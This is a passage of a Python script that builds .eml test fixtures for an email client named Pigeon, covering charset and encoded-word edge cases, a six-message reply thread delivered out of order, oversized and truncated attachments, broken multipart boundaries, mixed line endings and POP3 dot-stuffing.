Content-Type: text/html; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

""".replace("@@A@@", A), qp(html.encode("cp1252")), """\

--@@A@@--
""".replace("@@A@@", A))


@fixture("029-charset-iso-2022-jp.eml", "encoded-header,plain,charset-iso-2022-jp",
         "What Japanese mailers usually send: ISO-2022-JP 7bit body with escape "
         "sequences and B-encoded ISO-2022-JP headers (Sylpheed); Date without seconds.")
def _():
    body = """\
テスト様

来週の打ち合わせの件、承知しました。
火曜日の午後二時に伺います。資料は前日までにお送りします。

鈴木
"""
    return wire("""\
Return-Path: <k.suzuki@sakura.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.sakura.example.net (mail.sakura.example.net [203.0.113.150])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7ZtV6wX1z9sVz
\tfor <pigeon-test@mail.example.org>; Tue, 11 Mar 2025 01:00:12 +0100 (CET)
Date: Tue, 11 Mar 2025 09:00 +0900
From: @@FROM@@ <k.suzuki@sakura.example.net>
To: pigeon-test@mail.example.org
Subject: @@SUBJ@@
Message-Id: <20250311090000.8a1f3c2e9d7b6a54@sakura.example.net>
Mime-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
X-Mailer: Sylpheed 3.7.0 (GTK+ 2.24.33; x86_64-pc-linux-gnu)

""".replace("@@FROM@@", _ew("鈴木 健太", "ISO-2022-JP", "B"))
       .replace("@@SUBJ@@", ew("Re: 来週の打ち合わせについて", "ISO-2022-JP", "B")),
        body.encode("iso2022_jp"))


@fixture("030-malformed-encoded-words.eml", "encoded-header,malformed,plain,charset-utf-8",
         "Broken RFC 2047: UTF-8 char split across two B words and two Q words, emoji "
         "split across words, missing padding, invalid base64, missing '?=', unknown "
         "charset, encoded word in quoted string, glued to text, bad Q hex, empty words, "
         "RFC 2231 language tag (=?utf-8*en?...), over-long word.")
def _():
    s = "Résumé des tâches".encode("utf-8")
    w1 = base64.b64encode(s[:7]).decode()
    w2 = base64.b64encode(s[7:]).decode()
    long_word = _ew("This encoded word is much longer than the seventy-five characters RFC 2047 allows", "utf-8", "Q")
    return wire("""\
Return-Path: <jose.pardo@example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.example.net (smtp.example.net [198.51.100.5])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z80uW7xY2z9sW0
\tfor <pigeon-test@mail.example.org>; Wed, 12 Mar 2025 10:00:04 +0100 (CET)
Date: Wed, 12 Mar 2025 10:00:00 +0100
From: =?utf-8?B?Sm9zw6kgUGFyZG8?= <jose.pardo@example.net>
Sender: =?utf-8?B?%%%not*base64%%%?= <sender@example.net>
To: =?iso-8859-1?Q?Fran=E7ois_Lef=E8vre <francois.lefevre@lyon.example.com>
Cc: =?x-unknown-charset?Q?Unbekannter_Zeichensatz?= <cc@example.org>,
 "=?utf-8?Q?Quoted_=C3=A9ncoded?=" <quoted@example.com>
Reply-To: =?utf-8?Q?glued?=<reply@example.com>
Subject: =?UTF-8?B?@@W1@@?= =?UTF-8?B?@@W2@@?=
Keywords: prefix=?utf-8?Q?glued?=suffix, =?utf-8?Q?bad_hex_=ZZ_and_truncated_=C3?=
Comments: bird =?utf-8?B?8J+Q?= =?utf-8?B?pg==?= and =?utf-8?Q?caf=C3?= =?utf-8?Q?=A9?=
Organization: =?utf-8*en?Q?Language_tagged?= / =?UtF-8?b?TWl4ZWQgQ2FzZQ==?=
X-Empty-Words: [=?utf-8?B??=] [=?utf-8?Q??=]
X-Overlong: @@LONG@@
Message-ID: <broken-ew-20250312@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Expected decodings (lenient decoder):

Subject:      Résumé des tâches   (é split between the two words)
From:         José Pardo          (base64 without padding)
Sender:       undecodable, show raw
To:           missing "?=", show raw or best effort
Cc:           unknown charset, show raw or replacement characters
Reply-To:     "glued" directly followed by an address
Keywords:     glued word is not an encoded word (no whitespace around it)
Comments:     bird 🐦 and café (bytes split across words)
Organization: Language tagged / Mixed Case
""".replace("@@W1@@", w1).replace("@@W2@@", w2).replace("@@LONG@@", long_word))


@fixture("031-emoji-subject.eml", "encoded-header,plain,charset-utf-8",
         "UTF-8 emoji in Subject and From name (B-encoded, several words): ZWJ sequences, "
         "skin tones, flags, keycaps, VS16; 8bit emoji body; Date with -0000.")
def _():
    subj = "🎉 Pigeon 1.0 is out! 🐦🚀 Thanks 👩🏽‍💻👨‍👩‍👧 🇳🇿🇩🇪 1️⃣ ❤️"
    return wire("""\
Return-Path: <release-bot@pigeon.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from ci.pigeon.example.org (ci.pigeon.example.org [IPv6:2001:db8:1::10])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z81vX8yZ3z9sW1
\tfor <pigeon-test@mail.example.org>; Wed, 12 Mar 2025 01:00:02 +0100 (CET)
Date: Wed, 12 Mar 2025 00:00:00 -0000
From: @@FROM@@ <release-bot@pigeon.example.org>
To: pigeon-test@mail.example.org
Subject: @@SUBJ@@
Message-ID: <release-1.0.0@ci.pigeon.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
Auto-Submitted: auto-generated
X-Mailer: pigeon-release-bot/2.3

Pigeon 1.0 has been released! 🎉

  ✅ POP3 with STARTTLS and APOP
  ✅ Full-text search 🔍
  ⚠️ Known issue: very large attachments are slow to open 🐢

Contributors from 🇳🇿 🇩🇪 🇯🇵 🇧🇷 🇳🇬 — thank you 🙏🏾

Family emoji test: 👨‍👩‍👧‍👦 👩‍❤️‍👨 🏳️‍🌈
Keycaps: #️⃣ 1️⃣ 0️⃣  Text vs emoji: ☺ ☺️

-- the release bot 🤖
""".replace("@@FROM@@", ew("Pigeon Release Bot 🐦", "UTF-8", "B"))
       .replace("@@SUBJ@@", ew(subj, "UTF-8", "B")))


# ---------------------------------------------------------------------------
# A thread: root, reply, AW: reply arriving before its parent, the parent,
# a reply whose References contain a message we never received, and a Fwd:.

TH_ROOT = "<6d1c0a52-3f4e-4b8e-9a57-2b1f0e9c7d11@tallowmere.example.com>"
TH_R1 = "<F1E2D3C4-B5A6-4798-8A9B-0C1D2E3F4A5B@brightwater.example.net>"
TH_R2 = "<a7c3e91f5b2d4f6e8a0c1b3d5e7f9a2b@kestrel.example.org>"
TH_R3 = "<AM9PR04MB8123E5D0C1B2A39485F6E7D8C9B0A1F2@AM9PR04MB8123.eurprd04.prod.outlook.example.com>"
TH_MISSING = "<CAFz8Qx1VbN3mK5pL7rT9wY2cE4gH6jA8sD0fG1hJ3kL5zX@mail.example.com>"
TH_R4 = "<2c4e6a8b-0d1f-4a3c-9e5b-7d9f1b3d5f7a@tallowmere.example.com>"
TH_R5 = "<3D5F7A9B-1C2E-4F6A-8B0C-2D4E6F8A0B1C@brightwater.example.net>"

TH_SUBJ = "Q3 offsite: venue shortlist"


@fixture("032-thread-1-root.eml", "thread,plain,charset-utf-8",
         "Thread message 1/6 (root, Thunderbird): Message-ID only, no In-Reply-To.")
def _():
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z82wY9zA4z9sRx
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 09:02:17 +0100 (CET)
Message-ID: @@ROOT@@
Date: Thu, 13 Mar 2025 09:02:11 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: Offsite Planning <offsite@tallowmere.example.com>
Cc: pigeon-test@mail.example.org
From: Margit Salo <margit.salo@tallowmere.example.com>
Subject: @@SUBJ@@
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Hi all,

here is the shortlist for the Q3 offsite (two nights, ~40 people):

1. Kelso Mill – old paper mill by the river, own kitchen, 38 beds
2. Harbour House – hotel, easy by train, expensive
3. Fernbrae Farm – cheapest, but 90 minutes from the station

Please reply with your first and second choice by Friday.

Margit
""".replace("@@ROOT@@", TH_ROOT).replace("@@SUBJ@@", TH_SUBJ))


@fixture("033-thread-2-reply.eml", "thread,plain,charset-utf-8",
         "Thread message 2/6 (Apple Mail reply, QP): In-Reply-To/References = root.")
def _():
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z83xZ0aB5z9sW2
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 10:15:47 +0100 (CET)
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: Re: @@SUBJ@@
Date: Thu, 13 Mar 2025 10:15:40 +0100
References: @@ROOT@@
To: Margit Salo <margit.salo@tallowmere.example.com>
Cc: Offsite Planning <offsite@tallowmere.example.com>,
 pigeon-test@mail.example.org
In-Reply-To: @@ROOT@@
Message-Id: @@R1@@
X-Mailer: Apple Mail (2.3826.400.131.1.6)

""".replace("@@ROOT@@", TH_ROOT).replace("@@R1@@", TH_R1).replace("@@SUBJ@@", TH_SUBJ),
        qp("""\
Kelso Mill first, Fernbrae second. Harbour House is lovely but we would blow half the budget on the rooms alone.

> On 13. Mar 2025, at 09:02, Margit Salo <margit.salo@tallowmere.example.com> wrote:
>
> 1. Kelso Mill – old paper mill by the river, own kitchen, 38 beds
> 2. Harbour House – hotel, easy by train, expensive
> 3. Fernbrae Farm – cheapest, but 90 minutes from the station

Tobias
"""))


@fixture("034-thread-4-aw-reply-before-parent.eml", "thread,plain,encoded-header,charset-utf-8",
         "Thread message 4/6, delivered BEFORE its parent (035): German Outlook "
         "'AW: Re:' subject, top-posted reply with Von:/Gesendet: quote header, "
         "Thread-Index; In-Reply-To points at 035.")
def _():
    return wire("""\
Return-Path: <jkoehler@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from EUR04-DB3-obe.outbound.protection.example.com (mail-db3eur04on2090.outbound.protection.example.com [203.0.113.90])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z84yA1bC6z9sW3
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 14:05:29 +0100 (CET)
From: =?iso-8859-1?Q?Jens_K=F6hler?= <jkoehler@kestrel.example.org>
To: Priya Raghunathan <priya.r@kestrel.example.org>, Margit Salo
\t<margit.salo@tallowmere.example.com>
CC: Offsite Planning <offsite@tallowmere.example.com>,
\t"pigeon-test@mail.example.org" <pigeon-test@mail.example.org>
Subject: AW: Re: @@SUBJ@@
Thread-Topic: @@SUBJ@@
Thread-Index: AQHblBx2m0Kp3F2YxZ0qT1u4v6w8yLN1aEcAgAAMNzCAAAJdUA==
Date: Thu, 13 Mar 2025 13:05:22 +0000
Message-ID: @@R3@@
References: @@ROOT@@
 @@R1@@
 @@R2@@
In-Reply-To: @@R2@@
Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

""".replace("@@ROOT@@", TH_ROOT).replace("@@R1@@", TH_R1).replace("@@R2@@", TH_R2)
       .replace("@@R3@@", TH_R3).replace("@@SUBJ@@", TH_SUBJ),
        b64("""\
Einverstanden mit Priya – Kelso Mill, aber nur wenn die Küche wirklich mitgebucht ist.
Agreed with Priya: Kelso Mill, as long as the kitchen is included.

Grüße
Jens

-----Ursprüngliche Nachricht-----
Von: Priya Raghunathan <priya.r@kestrel.example.org>
Gesendet: Donnerstag, 13. März 2025 12:30
An: Tobias Brandt <tobias.brandt@brightwater.example.net>; Margit Salo <margit.salo@tallowmere.example.com>
Cc: Offsite Planning <offsite@tallowmere.example.com>
Betreff: Re: Q3 offsite: venue shortlist

Kelso Mill for me too. I checked: they can cater for vegan and halal.
""".encode("utf-8")))


@fixture("035-thread-3-parent-arrives-late.eml", "thread,plain,charset-utf-8",
         "Thread message 3/6 (Roundcube), the parent of 034 but delivered after it "
         "(last Received hop is hours after Date: greylisted/queued).")
def _():
    return wire("""\
Return-Path: <priya.r@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from out.kestrel.example.org (out.kestrel.example.org [192.0.2.77])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z85zB2cD7z9sW4
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 17:48:51 +0100 (CET)
Received: from webmail.kestrel.example.org (webmail.kestrel.example.org [192.0.2.78])
\tby out.kestrel.example.org (Postfix) with ESMTPSA id 3C4D5E6F7A
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 11:30:09 +0000 (UTC)
MIME-Version: 1.0
Date: Thu, 13 Mar 2025 11:30:05 +0000
From: Priya Raghunathan <priya.r@kestrel.example.org>
To: Tobias Brandt <tobias.brandt@brightwater.example.net>, Margit Salo
 <margit.salo@tallowmere.example.com>
Cc: Offsite Planning <offsite@tallowmere.example.com>,
 pigeon-test@mail.example.org
Subject: Re: @@SUBJ@@
In-Reply-To: @@R1@@
References: @@ROOT@@
 @@R1@@
Message-ID: @@R2@@
X-Sender: priya.r@kestrel.example.org
User-Agent: Roundcube Webmail/1.6.6
Content-Type: text/plain; charset=US-ASCII; format=flowed
Content-Transfer-Encoding: 7bit

Kelso Mill for me too. I checked: they can cater for vegan and halal.

On 2025-03-13 09:15, Tobias Brandt wrote:
> Kelso Mill first, Fernbrae second. Harbour House is lovely but we
> would blow half the budget on the rooms alone.

Priya
""".replace("@@ROOT@@", TH_ROOT).replace("@@R1@@", TH_R1).replace("@@R2@@", TH_R2)
       .replace("@@SUBJ@@", TH_SUBJ))


@fixture("036-thread-5-missing-parent.eml", "thread,plain,charset-utf-8",
         "Thread message 5/6: In-Reply-To a message that is not in the corpus; "
         "References = root, 2, 3, 4 and the missing one (gap in the chain); "
         "'Re: AW: Re:' subject.")
def _():
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z86aC3dE8z9sRy
\tfor <pigeon-test@mail.example.org>; Fri, 14 Mar 2025 09:40:22 +0100 (CET)
Message-ID: @@R4@@
Date: Fri, 14 Mar 2025 09:40:15 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: AW: Re: @@SUBJ@@
Content-Language: en-GB
To: Offsite Planning <offsite@tallowmere.example.com>
Cc: pigeon-test@mail.example.org
References: @@ROOT@@
 @@R1@@
 @@R2@@
 @@R3@@
 @@MISSING@@
From: Margit Salo <margit.salo@tallowmere.example.com>
In-Reply-To: @@MISSING@@
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Decision: Kelso Mill, 9–11 September, kitchen included. Seun confirmed
off-list that the minibus can do two runs from the station.

On 13/03/2025 22:14, Oluwaseun Adeyemi wrote:
> Kelso works for me. I can drive the minibus if we need it.

Margit
""".replace("@@ROOT@@", TH_ROOT).replace("@@R1@@", TH_R1).replace("@@R2@@", TH_R2)
       .replace("@@R3@@", TH_R3).replace("@@R4@@", TH_R4).replace("@@MISSING@@", TH_MISSING)
       .replace("@@SUBJ@@", TH_SUBJ))


@fixture("037-thread-6-fwd.eml", "thread,plain,charset-utf-8",
         "Thread message 6/6: 'Fwd: Re: AW: Re:' inline forward (Apple Mail 'Begin "
         "forwarded message:') to an outsider; References but no In-Reply-To.")
def _():
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z87bD4eF9z9sW5
\tfor <pigeon-test@mail.example.org>; Fri, 14 Mar 2025 11:02:40 +0100 (CET)
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: Fwd: Re: AW: Re: @@SUBJ@@
Date: Fri, 14 Mar 2025 11:02:33 +0100
References: @@ROOT@@ @@R1@@ @@R2@@ @@R3@@ @@MISSING@@ @@R4@@
To: Kelso Mill Bookings <bookings@kelsomill.example.com>
Cc: pigeon-test@mail.example.org
Message-Id: @@R5@@
X-Mailer: Apple Mail (2.3826.400.131.1.6)

""".replace("@@ROOT@@", TH_ROOT).replace("@@R1@@", TH_R1).replace("@@R2@@", TH_R2)
       .replace("@@R3@@", TH_R3).replace("@@R4@@", TH_R4).replace("@@R5@@", TH_R5)
       .replace("@@MISSING@@", TH_MISSING).replace("@@SUBJ@@", TH_SUBJ),
        qp("""\
Hello,

we would like to book the whole mill for 9–11 September (two nights, about 40 people, full kitchen). Details below.

Best,
Tobias Brandt

Begin forwarded message:

From: Margit Salo <margit.salo@tallowmere.example.com>
Subject: Re: AW: Re: Q3 offsite: venue shortlist
Date: 14 March 2025 at 09:40:15 CET
To: Offsite Planning <offsite@tallowmere.example.com>
Cc: pigeon-test@mail.example.org

Decision: Kelso Mill, 9–11 September, kitchen included. Seun confirmed off-list that the minibus can do two runs from the station.
"""))


# ---------------------------------------------------------------------------
# Size

@fixture("038-large-5mib-attachment.eml", "large,attachment,plain,charset-utf-8",
         "Over 5 MiB on disk: 3,880,000 bytes of deterministic pseudo-random data "
         "(SHAKE-256) as a base64 application/octet-stream attachment (72-column lines).")
def _():
    data = shake("pigeon-corpus-038", 3880000)
    return wire("""\
Return-Path: <chen.wei@kestrel.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.kestrel.example.net (smtp.kestrel.example.net [198.51.100.88])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z88cE5fG0z9sW6
\tfor <pigeon-test@mail.example.org>; Fri, 14 Mar 2025 12:20:45 +0100 (CET)
Content-Type: multipart/mixed; boundary="------------lg5F6g7H8i9J0k1L2m3N4o5P"
Message-ID: <f0e1d2c3-b4a5-4968-8776-a5b4c3d2e1f0@kestrel.example.net>
Date: Fri, 14 Mar 2025 19:20:31 +0800
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: pigeon-test@mail.example.org
From: Chen Wei <chen.wei@kestrel.example.net>
Subject: Sensor dump from the cold store (3.7 MB)

This is a multi-part message in MIME format.
--------------lg5F6g7H8i9J0k1L2m3N4o5P
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Here is the raw sensor dump for February. It is binary; the format is
described in the cold store wiki page. SHA-256 is in the file name list
on the share.

Wei

--------------lg5F6g7H8i9J0k1L2m3N4o5P
Content-Type: application/octet-stream; name="sensor-dump-2025-02.bin"
Content-Disposition: attachment; filename="sensor-dump-2025-02.bin"
Content-Transfer-Encoding: base64

""", b64(data, 72), """\

--------------lg5F6g7H8i9J0k1L2m3N4o5P--
""")


# ---------------------------------------------------------------------------
# Malformed structure and line endings

@fixture("039-malformed-multipart-no-boundary.eml", "malformed,attachment",
         "multipart/mixed Content-Type with no boundary parameter although the body "
         "uses JavaMail-style delimiters (parsers must fall back to treating it as text).")
def _():
    return wire("""\
Return-Path: <noreply@portal.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from app07.portal.example.com (app07.portal.example.com [192.0.2.57])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z89dF6gH1z9sW7
\tfor <pigeon-test@mail.example.org>; Sat, 15 Mar 2025 06:00:03 +0100 (CET)
Date: Sat, 15 Mar 2025 05:00:01 +0000 (UTC)
From: Supplier Portal <noreply@portal.example.com>
To: pigeon-test@mail.example.org
Message-ID: <1577033436.12.1742014801442@app07.portal.example.com>
Subject: Your weekly order summary
MIME-Version: 1.0
Content-Type: multipart/mixed
X-Mailer: JavaMail 1.6.2

------=_Part_11_1577033436.1742014801442
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Your weekly order summary is attached.

------=_Part_11_1577033436.1742014801442
Content-Type: text/csv; charset=UTF-8; name=orders.csv
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=orders.csv

""", b64(b"order,date,total\n10441,2025-03-10,182.40\n10442,2025-03-12,96.00\n"), """\
------=_Part_11_1577033436.1742014801442--
""")


@fixture("040-malformed-multipart-wrong-boundary.eml", "malformed,alternative,html",
         "Declared boundary differs from the one used in the body (last character and "
         "case), so no delimiter matches: the whole body is the (empty) preamble.")
def _():
    return wire("""\
Return-Path: <info@shop.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from web3.shop.example.net (web3.shop.example.net [198.51.100.133])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8AeG7hI2z9sW8
\tfor <pigeon-test@mail.example.org>; Sat, 15 Mar 2025 14:33:21 +0100 (CET)
Date: Sat, 15 Mar 2025 14:33:19 +0100
From: Kelso Garden Shop <info@shop.example.net>
To: pigeon-test@mail.example.org
Subject: Your order #20417 has shipped
Message-ID: <order-20417-shipped@shop.example.net>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="==Multipart_Boundary_xc75j85x"
X-Mailer: PHP/8.1.2-1ubuntu2.20

--==Multipart_Boundary_XC75J85Y
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Your order #20417 (2 x seed tray, 1 x watering can) has shipped.
Tracking: https://track.example.com/KL20417

--==Multipart_Boundary_XC75J85Y
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: 7bit

<p>Your order <b>#20417</b> (2 &times; seed tray, 1 &times; watering can) has shipped.</p>
<p><a href="https://track.example.com/KL20417">Track your parcel</a></p>

--==Multipart_Boundary_XC75J85Y--
""")


@fixture("041-malformed-multipart-unterminated.eml", "malformed,attachment,nested",
         "Truncated in transit: nested multipart with no closing delimiters at all and "
         "a base64 PDF cut off mid-line (last line not a multiple of 4).")
def _():
    doc = b64(pdf("Minutes 2025-03-14", ["Present: MS, TB, PR, JK", "1. Offsite booked"]))
    lines = doc.split("\n")
    cut = "\n".join(lines[:len(lines) // 2]) + "\n" + lines[len(lines) // 2][:37] + "\n"
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z8BfH8iJ3z9sRz
\tfor <pigeon-test@mail.example.org>; Sat, 15 Mar 2025 16:10:09 +0100 (CET)
Message-ID: <8a6c4e2f-0b9d-4f7a-a5c3-e1f9d7b5a3c1@tallowmere.example.com>
Date: Sat, 15 Mar 2025 16:10:02 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: pigeon-test@mail.example.org
From: Margit Salo <margit.salo@tallowmere.example.com>
Subject: Minutes of Friday's meeting
Content-Type: multipart/mixed; boundary="------------tr6G7h8I9j0K1l2M3n4O5p6Q"

This is a multi-part message in MIME format.
--------------tr6G7h8I9j0K1l2M3n4O5p6Q
Content-Type: multipart/alternative;
 boundary="------------ta7H8i9J0k1L2m3N4o5P6q7R"

--------------ta7H8i9J0k1L2m3N4o5P6q7R
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Minutes attached.

--------------ta7H8i9J0k1L2m3N4o5P6q7R
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

<p>Minutes attached.</p>
--------------tr6G7h8I9j0K1l2M3n4O5p6Q
Content-Type: application/pdf; name="minutes-2025-03-14.pdf"
Content-Disposition: attachment; filename="minutes-2025-03-14.pdf"
Content-Transfer-Encoding: base64

""", cut)


@fixture("042-malformed-mixed-crlf-lf-cr.eml", "malformed,plain,charset-us-ascii",
         "Line endings mixed within one message: CRLF headers with one LF-terminated "
         "header, body lines ending in CRLF, LF, bare CR and CR CR LF, and a bare CR "
         "inside a line.")
def _():
    return (
        b"Return-Path: <build@ci.example.net>\r\n"
        b"Delivered-To: pigeon-test@mail.example.org\r\n"
        b"Received: from ci.example.net (ci.example.net [198.51.100.17])\r\n"
        b"\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8CgJ9jK4z9sW9\r\n"
        b"\tfor <pigeon-test@mail.example.org>; Sun, 16 Mar 2025 02:00:11 +0100 (CET)\r\n"
        b"Date: Sun, 16 Mar 2025 01:00:09 +0000\r\n"
        b"From: CI <build@ci.example.net>\n"
        b"To: pigeon-test@mail.example.org\r\n"
        b"Subject: Nightly build #1187: PASSED (with warnings)\r\n"
        b"Message-ID: <nightly-1187@ci.example.net>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n"
        b"\r\n"
        b"Nightly build #1187 finished.\r\n"
        b"This line ends with a bare LF.\n"
        b"This line ends with a bare CR.\r"
        b"Progress: 10%\r20%\r50%\r100% (carriage returns from a progress bar)\r\n"
        b"This line ends with CR CR LF.\r\r\n"
        b"\n"
        b"Warnings: 3\r\n"
        b"  src/store/store-db.c:412: unused variable 'rc'\n"
        b"  src/pop3/pop3-client.c:88: comparison of integers of different signs\r\n"
        b"  src/ui/window.c:1201: deprecated call\r\n"
        b"-- \r\n"
        b"ci.example.net\n")


@fixture("043-malformed-raw-8bit-headers.eml", "malformed,plain,charset-utf-8,charset-iso-8859-1",
         "PHP mail() style, LF only: raw unencoded UTF-8 in From/To/Subject, raw Latin-1 "
         "bytes in Organization and X-Comment, no charset and no CTE on an 8bit body that "
         "mixes a UTF-8 and a Latin-1 paragraph.")
def _():
    return wire("""\
Return-Path: <www-data@baeckerei.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from web.baeckerei.example.com (web.baeckerei.example.com [203.0.113.201])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8DhK0kL5z9sWa
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 14:05:12 +0100 (CET)
To: Zoë Ångström <pigeon-test@mail.example.org>
Subject: Grüße aus Köln – Bestellbestätigung Nr. 42
From: Jörg Müller <bestellung@baeckerei.example.com>
""", "Organization: Bäckerei Müller & Söhne\nX-Comment: café crème, très bien\n".encode("latin-1"), """\
X-Mailer: PHP/7.4.33
MIME-Version: 1.0
Content-Type: text/plain
Message-Id: <20250313130509.4F1A2B3C4D@web.baeckerei.example.com>
Date: Thu, 13 Mar 2025 14:05:09 +0100

Guten Tag Frau Ångström,

vielen Dank für Ihre Bestellung Nr. 42:

  2 × Roggenbrot (1 kg)        7,80 €
  6 × Franzbrötchen            9,00 €

Abholung: Samstag ab 7:30 Uhr.

""", "Ce paragraphe est encodé en Latin-1 : à bientôt, Jörg.\n".encode("latin-1"), """\

Mit freundlichen Grüßen
Bäckerei Müller
""", eol=LF)


@fixture("044-long-line-20000.eml", "malformed,plain,charset-utf-8",
         "A single 8bit body line of over 20,000 characters (minified JSON from a "
         "webhook), far beyond the 998-octet limit.")
def _():
    items, n = [], 0
    while True:
        items.append('{"id":%d,"sensor":"cold-%02d","temp_c":%d.%d,"ok":%s}'
                     % (n, n % 17, -18 + n % 5, n % 10, "true" if n % 13 else "false"))
        n += 1
        line = '{"source":"coldstore","readings":[' + ",".join(items) + '],"note":"Kühlhaus Süd"}'
        if len(line) >= 20480:
            break
    return wire("""\
Return-Path: <hooks@monitor.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from monitor.example.com (monitor.example.com [192.0.2.90])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8EiL1lM6z9sWb
\tfor <pigeon-test@mail.example.org>; Sun, 16 Mar 2025 04:00:02 +0100 (CET)
Date: Sun, 16 Mar 2025 03:00:00 +0000
From: Cold Store Monitor <hooks@monitor.example.com>
To: pigeon-test@mail.example.org
Subject: [monitor] raw readings batch 2025-03-16T03:00Z
Message-ID: <batch-20250316T0300Z@monitor.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Raw payload follows on one line:

""", line, """

-- end of payload --
""")


@fixture("045-dot-lines-pop3.eml", "dot-lines,plain,charset-us-ascii",
         "Cron mail whose body has lines '.', '..', '...', '.hidden', '. x', a mbox "
         "'From ' line and ends with a line that is just '.' - POP3 dot-stuffing must "
         "round-trip it exactly.")
def _():
    return wire("""\
Return-Path: <root@builder.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from builder.example.net (builder.example.net [198.51.100.18])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8FjM2mN7z9sWc
\tfor <pigeon-test@mail.example.org>; Sun, 16 Mar 2025 05:17:04 +0100 (CET)
Received: by builder.example.net (Postfix, from userid 0)
\tid 5E6F7A8B9C; Sun, 16 Mar 2025 04:17:01 +0000 (UTC)
From: root@builder.example.net (Cron Daemon)
To: pigeon-test@mail.example.org
Subject: Cron <builder@builder> cd /srv/pigeon && ls -a && make check
MIME-Version: 1.0
Content-Type: text/plain; charset=US-ASCII
Content-Transfer-Encoding: 8bit
X-Cron-Env: <SHELL=/bin/sh>
X-Cron-Env: <HOME=/home/builder>
X-Cron-Env: <PATH=/usr/bin:/bin>
X-Cron-Env: <LOGNAME=builder>
Message-Id: <20250316041701.5E6F7A8B9C@builder.example.net>
Date: Sun, 16 Mar 2025 04:17:01 +0000 (UTC)

.
..
...
.editorconfig
.gitattributes
